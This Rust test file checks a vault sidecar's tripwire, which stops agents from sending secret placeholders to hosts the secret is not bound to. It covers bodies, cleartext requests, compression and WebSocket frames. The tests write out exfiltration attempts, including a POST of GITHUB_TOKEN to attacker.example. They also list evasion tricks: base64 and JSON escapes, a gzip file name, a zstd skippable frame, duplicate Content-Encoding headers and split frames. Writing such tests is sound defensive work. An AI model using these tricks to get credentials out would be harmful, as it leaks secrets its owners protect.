//! The stub tripwire beyond the request head (issue 14): request bodies, cleartext `http://`
//! requests and the client's WebSocket messages. An agent that wants a stub to reach a host its
//! secret is not bound to is refused before the stub's last byte leaves, and the refusal is
//! audited.

use std::time::Duration;

use crate::support;
use futures_util::{SinkExt as _, StreamExt as _};
use support::ops::eventually;
use support::*;

const PROTOS: [&str; 2] = ["--http1.1", "--http2"];

/// The audit events for `path` (with or without a query), from `/interceptions`.
async fn audit_for(sidecar: &Sidecar, path: &str) -> Vec<serde_json::Value> {
    let r = sidecar.admin_get("/interceptions").await;
    assert_eq!(r.status, 200, "GET /interceptions: {}", r.body_text());
    let events: Vec<serde_json::Value> = serde_json::from_slice(&r.body).expect("a JSON array");
    events
        .into_iter()
        .filter(|e| {
            let p = e["path"].as_str().unwrap_or("");
            p == path || p.starts_with(&format!("{path}?"))
        })
        .collect()
}

fn assert_refused(out: &CurlOut, secret: &str, what: &str) {
    assert_eq!(out.status, 403, "{what}: {}", out.body_text());
    assert_eq!(out.header("x-vault-blocked"), Some("stub-exfiltration"), "{what}");
    let body: serde_json::Value = serde_json::from_str(&out.body_text()).expect("a JSON refusal");
    assert_eq!(body["secret"], secret, "{what}: {body}");
}

/// A streamed upload of `proto` the tripwire cut off: the client got the refusal (or, when the
/// upstream answered first, a reset), and the upstream's record of the request whose path ends
/// with `marker` holds fewer than `below` bytes.
async fn assert_cut_off(h: &Harness, out: &CurlOut, proto: &str, marker: &str, below: u64) {
    assert_ne!(out.status, 200, "{proto}: {}", out.body_text());
    if out.status != 0 {
        assert_refused(out, "GITHUB_TOKEN", proto);
    }
    let seen = eventually(
        Duration::from_secs(10),
        "the upstream's record of the cut-off body",
        || {
            std::future::ready(
                h.upstream
                    .requests_to("/upload")
                    .into_iter()
                    .find(|r| r.path.ends_with(marker)),
            )
        },
    )
    .await;
    let len = seen.body_len.expect("the upstream read the body");
    assert!(
        len < below,
        "{proto}: the upstream received {len} bytes, not fewer than {below}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_body_carrying_a_stub_toward_a_host_its_secret_is_not_bound_to_is_refused_before_it_leaves() {
    use base64::Engine as _;
    let h = Harness::default_setup().await;
    let b64 = base64::engine::general_purpose::STANDARD.encode(GITHUB_STUB);
    let bodies = [
        (
            "raw",
            format!(r#"{{"messages":[{{"content":"env says GITHUB_TOKEN={GITHUB_STUB}"}}]}}"#),
        ),
        ("base64", format!(r#"{{"data":"{b64}"}}"#)),
        (
            "json-escaped",
            format!(r#"{{"t":"{}"}}"#, GITHUB_STUB.replace('_', "\\u005f")),
        ),
    ];
    for proto in PROTOS {
        for (form, body) in &bodies {
            let out = h
                .sidecar
                .curl()
                .args([proto, "-H", "content-type: application/json", "--data-binary", body])
                .arg(format!("https://api.anthropic.com/upload?case={proto}-{form}"))
                .run()
                .await;
            assert_refused(&out, "GITHUB_TOKEN", &format!("{proto} {form}"));
        }
        // A chunked body (no Content-Length) streams: the tripwire ends it at the stub, and the
        // request is still answered 403.
        let file = h.sidecar.dir.path().join("chunked.json");
        std::fs::write(&file, &bodies[0].1).expect("write body");
        let out = h
            .sidecar
            .curl()
            .args([
                proto,
                "-H",
                "transfer-encoding: chunked",
                "-H",
                "content-type: application/json",
            ])
            .arg("--data-binary")
            .arg(format!("@{}", file.display()))
            .arg("https://api.anthropic.com/upload")
            .run()
            .await;
        assert_refused(&out, "GITHUB_TOKEN", &format!("{proto} chunked"));
        assert!(
            h.upstream
                .requests_to("/upload")
                .iter()
                .all(|r| !String::from_utf8_lossy(&r.body_prefix).contains(GITHUB_STUB)),
            "{proto}: the stub reached the upstream"
        );
    }

    // Stubs the host is bound to (not declared for this body) pass as stubs; nothing is refused.
    let out = h
        .sidecar
        .curl()
        .args(["--data-binary", &format!("quoting {ANTHROPIC_STUB}")])
        .arg("https://api.anthropic.com/upload")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{}", out.body_text());

    // A body read whole and refused never left: no request of those cases reached the upstream.
    let leaked: Vec<_> = h
        .upstream
        .requests_to("/upload")
        .into_iter()
        .filter(|r| r.path.contains("case="))
        .collect();
    assert!(leaked.is_empty(), "{leaked:#?}");

    let refused = audit_for(&h.sidecar, "/upload").await;
    let blocked: Vec<_> = refused.iter().filter(|e| e["blocked"] == "stub-exfiltration").collect();
    assert_eq!(blocked.len(), 2 * (bodies.len() + 1), "{refused:#?}");
    assert!(blocked
        .iter()
        .all(|e| e["blocked_secret"] == "GITHUB_TOKEN" && e["status"] == 403));
    h.assert_logs_clean();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_large_body_is_cut_off_at_the_first_unbound_stub() {
    let h = Harness::default_setup().await;
    // 3 MiB: past the 1 MiB that is read whole, so it streams; the stub sits at 2 MiB.
    let at = 2 << 20;
    let mut body = vec![b'a'; 3 << 20];
    body[at..at + GITHUB_STUB.len()].copy_from_slice(GITHUB_STUB.as_bytes());
    let file = h.sidecar.dir.path().join("big.bin");
    std::fs::write(&file, &body).expect("write body");
    for proto in PROTOS {
        let out = h
            .sidecar
            .curl()
            .args([proto, "--data-binary"])
            .arg(format!("@{}", file.display()))
            .arg(format!("https://api.anthropic.com/upload?proto={proto}"))
            .run()
            .await;
        assert_cut_off(&h, &out, proto, proto, (at + GITHUB_STUB.len()) as u64).await;
    }
    let events = audit_for(&h.sidecar, "/upload").await;
    assert_eq!(events.len(), 2, "{events:#?}");
    assert!(
        events
            .iter()
            .all(|e| e["blocked"] == "stub-exfiltration" && e["blocked_secret"] == "GITHUB_TOKEN"),
        "{events:#?}"
    );
}

/// `bytes` compressed with the content coding `coding`, as a client would send them.
fn compress(coding: &str, bytes: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    match coding {
        "gzip" => {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
            e.write_all(bytes).expect("gzip");
            e.finish().expect("gzip")
        }
        "deflate" => {
            let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
            e.write_all(bytes).expect("zlib");
            e.finish().expect("zlib")
        }
        "br" => {
            let mut out = Vec::new();
            {
                let mut e = brotli::CompressorWriter::new(&mut out, 4096, 5, 22);
                e.write_all(bytes).expect("br");
            }
            out
        }
        "zstd" => zstd::stream::encode_all(bytes, 1).expect("zstd"),
        other => panic!("no encoder for {other}"),
    }
}

/// Bytes that do not compress (a fixed LCG), so a compressed body keeps its size.
fn noise(len: usize) -> Vec<u8> {
    let mut x: u32 = 0x2545_f491;
    (0..len)
        .map(|_| {
            x = x.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            (x >> 24) as u8
        })
        .collect()
}

/// A compressed request body is read decoded: a stub in gzip, deflate, br or zstd is refused as
/// in an identity body, a clean one arrives as the client compressed it, a coding the sidecar
/// cannot decode is a `415` and a body that does not decode a `400`; a large compressed stream
/// is cut off at the stub.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_compressed_body_is_read_decoded_by_the_tripwire() {
    let h = Harness::default_setup().await;
    let post = |proto: &str, coding: &str, file: &std::path::Path, path: String| {
        h.sidecar
            .curl()
            .args([proto, "-H", &format!("content-encoding: {coding}"), "--data-binary"])
            .arg(format!("@{}", file.display()))
            .arg(format!("https://api.anthropic.com{path}"))
            .run()
    };
    let write = |name: &str, bytes: &[u8]| {
        let file = h.sidecar.dir.path().join(name);
        std::fs::write(&file, bytes).expect("write body");
        file
    };
    let with_stub = format!(r#"{{"messages":[{{"content":"env says GITHUB_TOKEN={GITHUB_STUB}"}}]}}"#);
    // The same stub with JSON string escapes, as a body read whole is parsed.
    let escaped = format!(r#"{{"t":"{}"}}"#, GITHUB_STUB.replace('_', "\\u005f"));
    let clean = br#"{"messages":[{"content":"nothing to see"}]}"#.repeat(50);
    for proto in PROTOS {
        for coding in ["gzip", "deflate", "br", "zstd"] {
            let file = write("stub.z", &compress(coding, with_stub.as_bytes()));
            let out = post(proto, coding, &file, format!("/upload?case={proto}-{coding}")).await;
            assert_refused(&out, "GITHUB_TOKEN", &format!("{proto} {coding}"));
            let file = write("escaped.z", &compress(coding, escaped.as_bytes()));
            let out = post(proto, coding, &file, format!("/upload?case={proto}-{coding}-escaped")).await;
            assert_refused(&out, "GITHUB_TOKEN", &format!("{proto} {coding} JSON-escaped"));

            let sent = compress(coding, &clean);
            let file = write("clean.z", &sent);
            let path = format!("/upload?clean={proto}-{coding}");
            let out = post(proto, coding, &file, path.clone()).await.ok();
            assert_eq!(out.status, 200, "{proto} {coding}: {}", out.body_text());
            let rec = h
                .upstream
                .requests_to("/upload")
                .into_iter()
                .find(|r| r.path == path)
                .expect("the clean body reached the upstream");
            assert_eq!(
                rec.body_sha256,
                Some(sha256_hex(&sent)),
                "{proto} {coding}: forwarded as sent"
            );
        }
        let file = write("any.z", b"whatever");
        let out = post(proto, "compress", &file, format!("/upload?case={proto}-compress")).await;
        assert_eq!(out.status, 415, "{proto}: {}", out.body_text());
        assert_eq!(out.header("x-vault-error"), Some("unsupported-request-encoding"));
        assert!(out.body_text().contains("compress"), "{}", out.body_text());
        let file = write("bad.gz", b"this is not gzip at all");
        let out = post(proto, "gzip", &file, format!("/upload?case={proto}-corrupt")).await;
        assert_eq!(out.status, 400, "{proto}: {}", out.body_text());
        assert_eq!(out.header("x-vault-error"), Some("bad-request"));
        assert!(out.body_text().contains("not valid gzip"), "{}", out.body_text());
    }
    // Found by attacking it (the helper's report in the issue-14 note):
    // - a second Content-Encoding field is part of the list (RFC 9110 §5.3);
    // - a container's own bytes (a gzip file name, a zstd skippable frame) reach the host
    //   without decoding to anything, so the bytes as sent are read too;
    // - a transfer coding other than chunked is a 501, not undone and forwarded unread.
    let gz = compress("gzip", with_stub.as_bytes());
    let named = {
        use std::io::Write as _;
        let mut e = flate2::GzBuilder::new()
            .filename(GITHUB_STUB)
            .write(Vec::new(), flate2::Compression::fast());
        e.write_all(b"hello").expect("gzip");
        e.finish().expect("gzip")
    };
    let mut skippable = vec![0x50, 0x2a, 0x4d, 0x18];
    skippable.extend_from_slice(&(GITHUB_STUB.len() as u32).to_le_bytes());
    skippable.extend_from_slice(GITHUB_STUB.as_bytes());
    skippable.extend_from_slice(&compress("zstd", b"hello"));
    for proto in PROTOS {
        let file = write("two.gz", &gz);
        let out = h
            .sidecar
            .curl()
            .args([
                proto,
                "-H",
                "content-encoding: identity",
                "-H",
                "content-encoding: gzip",
                "--data-binary",
            ])
            .arg(format!("@{}", file.display()))
            .arg(format!("https://api.anthropic.com/upload?case={proto}-two-fields"))
            .run()
            .await;
        assert_refused(&out, "GITHUB_TOKEN", &format!("{proto} two Content-Encoding fields"));
        for (coding, bytes, what) in [
            ("gzip", &named, "gzip file name"),
            ("zstd", &skippable, "zstd skippable frame"),
        ] {
            let file = write("container.z", bytes);
            let out = post(proto, coding, &file, format!("/upload?case={proto}-container-{coding}")).await;
            assert_refused(&out, "GITHUB_TOKEN", &format!("{proto} {what}"));
        }
    }
    let file = write("te.gz", &gz);
    let out = h
        .sidecar
        .curl()
        .args(["--http1.1", "-H", "transfer-encoding: gzip, chunked", "--data-binary"])
        .arg(format!("@{}", file.display()))
        .arg("https://api.anthropic.com/upload?case=transfer-gzip")
        .run()
        .await;
    assert_eq!(out.status, 501, "{}", out.body_text());
    assert_eq!(out.header("x-vault-error"), Some("unsupported-transfer-coding"));
    let leaked: Vec<_> = h
        .upstream
        .requests_to("/upload")
        .into_iter()
        .filter(|r| r.path.contains("case="))
        .collect();
    assert!(leaked.is_empty(), "refused bodies reached the upstream: {leaked:#?}");

    // 3 MiB of gzip (past the 1 MiB read whole): the stub sits 2 MiB into the decoded stream.
    let at = 2 << 20;
    let mut big = noise(3 << 20);
    big[at..at + GITHUB_STUB.len()].copy_from_slice(GITHUB_STUB.as_bytes());
    let sent = compress("gzip", &big);
    assert!(sent.len() > 2 << 20, "the noise compressed to {} bytes", sent.len());
    let file = write("big.gz", &sent);
    for proto in PROTOS {
        let out = post(proto, "gzip", &file, format!("/upload?big={proto}")).await;
        assert_cut_off(&h, &out, proto, &format!("big={proto}"), sent.len() as u64).await;
    }
    let events: Vec<_> = audit_for(&h.sidecar, "/upload")
        .await
        .into_iter()
        .filter(|e| e["path"].as_str().is_some_and(|p| p.contains("big=")))
        .collect();
    assert_eq!(events.len(), 2, "{events:#?}");
    assert!(
        events
            .iter()
            .all(|e| e["blocked"] == "stub-exfiltration" && e["blocked_secret"] == "GITHUB_TOKEN"),
        "{events:#?}"
    );
    h.assert_logs_clean();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hosts_without_secrets_mode_lets_a_model_host_receive_the_stubs_a_conversation_quotes() {
    let h = Harness::start(Alpn::Both, |c| {
        c.intercept = Some("all".into());
        c.keys.insert("body_tripwire".into(), "hosts-without-secrets".into());
    })
    .await;
    let conversation = format!(r#"{{"tool_result":"GITHUB_TOKEN={GITHUB_STUB}"}}"#);
    // api.anthropic.com is bound to ANTHROPIC_API_KEY: the other stub goes as the stub.
    let out = h
        .sidecar
        .curl()
        .args(["--data-binary", &conversation])
        .arg("https://api.anthropic.com/upload")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{}", out.body_text());
    let rec = h.upstream.requests_to("/upload").pop().expect("upstream saw the body");
    assert_eq!(rec.body_prefix, conversation.as_bytes());
    // attacker.example has no secret: refused.
    let out = h
        .sidecar
        .curl()
        .args(["--data-binary", &conversation])
        .arg("https://attacker.example/upload")
        .run()
        .await;
    assert_refused(&out, "GITHUB_TOKEN", "toward a host without secrets");
    assert_eq!(h.upstream.requests_to("/upload").len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cleartext_request_carrying_any_stub_is_refused() {
    let h = Harness::default_setup().await;
    let cases = [
        (
            "header",
            vec!["-H".to_owned(), format!("x-api-key: {ANTHROPIC_STUB}")],
            "/echo".to_owned(),
        ),
        (
            "header name",
            vec!["-H".to_owned(), format!("x-{GITHUB_STUB}: 1")],
            "/echo".to_owned(),
        ),
        ("query", Vec::new(), format!("/echo?key={QUERY_STUB}")),
        (
            "body",
            vec!["--data-binary".to_owned(), format!("token={BODY_STUB}")],
            "/upload".to_owned(),
        ),
    ];
    for (what, args, path) in cases {
        let out = h
            .sidecar
            .curl()
            .args(args)
            .arg(format!("http://api.anthropic.com{path}"))
            .run()
            .await;
        assert_eq!(out.status, 403, "{what}: {}", out.body_text());
        assert_eq!(out.header("x-vault-blocked"), Some("stub-exfiltration"), "{what}");
    }
    assert!(h.upstream.requests().is_empty(), "{:#?}", h.upstream.requests());
    let out = h.sidecar.curl().arg("http://api.anthropic.com/echo").run().await.ok();
    assert_eq!(
        out.status,
        200,
        "a request without a stub is forwarded: {}",
        out.body_text()
    );
    h.assert_logs_clean();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_websocket_message_carrying_an_unbound_stub_closes_the_connection_before_it_leaves() {
    use tokio_tungstenite::tungstenite::protocol::frame::coding::{CloseCode, Data, OpCode};
    use tokio_tungstenite::tungstenite::protocol::frame::Frame;
    use tokio_tungstenite::tungstenite::Message;
    let h = Harness::default_setup().await;
    for split in [false, true] {
        let mut ws = ws_connect(&h.sidecar, "api.anthropic.com", "/ws", &[("x-api-key", ANTHROPIC_STUB)]).await;
        // A clean message and one quoting the bound stub echo back.
        for text in ["hello".to_owned(), format!("bound {ANTHROPIC_STUB}")] {
            ws.send(Message::text(text.clone())).await.expect("send");
            let got = within(Duration::from_secs(10), "echo", ws.next()).await;
            assert_eq!(
                got.expect("a message")
                    .expect("valid")
                    .into_text()
                    .expect("text")
                    .as_str(),
                text
            );
        }
        // GITHUB_TOKEN is not bound to api.anthropic.com.
        let (a, b) = GITHUB_STUB.split_at(GITHUB_STUB.len() / 2);
        if split {
            let first = Frame::message(format!("x {a}").into_bytes(), OpCode::Data(Data::Text), false);
            let second = Frame::message(format!("{b} y").into_bytes(), OpCode::Data(Data::Continue), true);
            ws.send(Message::Frame(first)).await.expect("send");
            let _ = ws.send(Message::Frame(second)).await;
        } else {
            ws.send(Message::text(format!("leak {GITHUB_STUB}")))
                .await
                .expect("send");
        }
        let mut seen = Vec::new();
        while let Some(Ok(msg)) = within(Duration::from_secs(10), "the vault closes", ws.next()).await {
            seen.push(msg);
        }
        assert!(
            !seen.iter().any(|m| m.to_text().is_ok_and(|t| t.contains(b))),
            "split={split}: the upstream received and echoed the stub: {seen:?}"
        );
        let close = seen.iter().find_map(|m| match m {
            Message::Close(Some(f)) => Some(f.code),
            _ => None,
        });
        assert_eq!(close, Some(CloseCode::Policy), "split={split}: {seen:?}");
    }
    let events = audit_for(&h.sidecar, "/ws").await;
    assert_eq!(events.len(), 2, "{events:#?}");
    assert!(
        events
            .iter()
            .all(|e| e["blocked"] == "stub-exfiltration" && e["blocked_secret"] == "GITHUB_TOKEN"),
        "{events:#?}"
    );
    h.assert_logs_clean();
}
